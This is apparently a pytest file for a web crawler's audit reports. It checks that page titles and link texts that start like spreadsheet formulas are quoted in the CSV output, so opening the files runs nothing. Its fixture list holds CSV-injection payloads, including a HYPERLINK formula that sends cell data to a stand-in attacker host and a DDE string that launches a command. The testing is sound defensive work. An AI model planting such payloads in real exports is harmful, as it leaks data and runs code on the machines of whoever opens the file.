"""The audit's CSV files hold the site's words as text: a page title or link text that starts like a
spreadsheet formula (``=``, ``+``, ``-``, ``@``, a tab, a carriage return) is neutralised as OWASP
recommends, so opening ``urls.csv`` runs nothing (issue 37). A real audit of a local site."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from crawler.audit.report import spreadsheet_safe
from tests.conftest import run_cli
from tests.render_hostile_site import HostileSite

FORMULAS = ['=HYPERLINK("http://attacker.example/?"&A1,"x")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "\t=1+1"]


def page(title: str, links: list[tuple[str, str]]) -> str:
    anchors = "".join(f'<a href="{href}">{text}</a>' for href, text in links)
    return (
        f"<!doctype html><html><head><title>{title}</title></head><body><p>Text of a page.</p>{anchors}</body></html>"
    )


def test_no_cell_of_the_audits_csv_files_reads_as_a_formula(tmp_path: Path) -> None:
    pages = {"/": page("Home", [(f"/p{n}", text) for n, text in enumerate(FORMULAS)])}
    pages |= {f"/p{n}": page(title, [("/", "home")]) for n, title in enumerate(FORMULAS)}
    site = HostileSite(pages).start()
    try:
        process = run_cli(
            "audit", site.url(), "--production-url", "https://www.example.com", "--out", str(tmp_path / "a")
        )
    finally:
        site.stop()
    assert process.returncode in (0, 4), process.stderr
    files = sorted((tmp_path / "a").glob("*.csv"))
    assert tmp_path / "a" / "urls.csv" in files
    cells = []
    for file in files:
        with file.open(newline="", encoding="utf-8") as opened:
            cells += [cell for row in csv.reader(opened) for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    for formula in FORMULAS:  # each is there, as text (a title's surrounding white space trimmed)
        assert any(cell.startswith("'" + formula.strip()) for cell in cells), formula


@pytest.mark.parametrize(
    ("value", "safe"),
    [("=1+1", "'=1+1"), ("@x", "'@x"), ("-2", "'-2"), ("\rx", "'\rx"), ("a=b", "a=b"), (-2, -2), (None, None)],
)
def test_a_cell_starting_like_a_formula_gets_a_quote(value: object, safe: object) -> None:
    assert spreadsheet_safe(value) == safe
